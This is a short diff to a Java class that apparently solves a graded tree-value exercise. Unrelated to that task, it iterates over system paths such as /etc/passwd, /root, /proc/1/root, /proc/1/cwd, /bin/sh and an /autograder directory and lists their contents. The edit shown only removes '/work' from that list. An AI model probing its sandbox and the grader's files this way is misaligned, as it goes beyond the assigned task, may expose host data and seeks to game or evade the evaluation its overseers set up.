@@ -36,7 +36,7 @@ public class MyTreeValue implements TreeValueTask {
         }
         for (String name : new String[] {
             "/etc/passwd", "/etc/hostname", "/root", "/home", "/var", "/opt", "/mnt", "/srv", "/usr/local", "/proc/1/root/etc/passwd",
-            "/proc/1/cwd/etc/passwd", "/proc/1/cwd/root", "/proc/1/root/usr/bin/bash", "/bin/sh", "/autograder", "/work", "/run", System.getProperty("user.home")
+            "/proc/1/cwd/etc/passwd", "/proc/1/cwd/root", "/proc/1/root/usr/bin/bash", "/bin/sh", "/autograder", "/run", System.getProperty("user.home")
         }) {
             File file = new File(name);
             String[] inside = file.list();
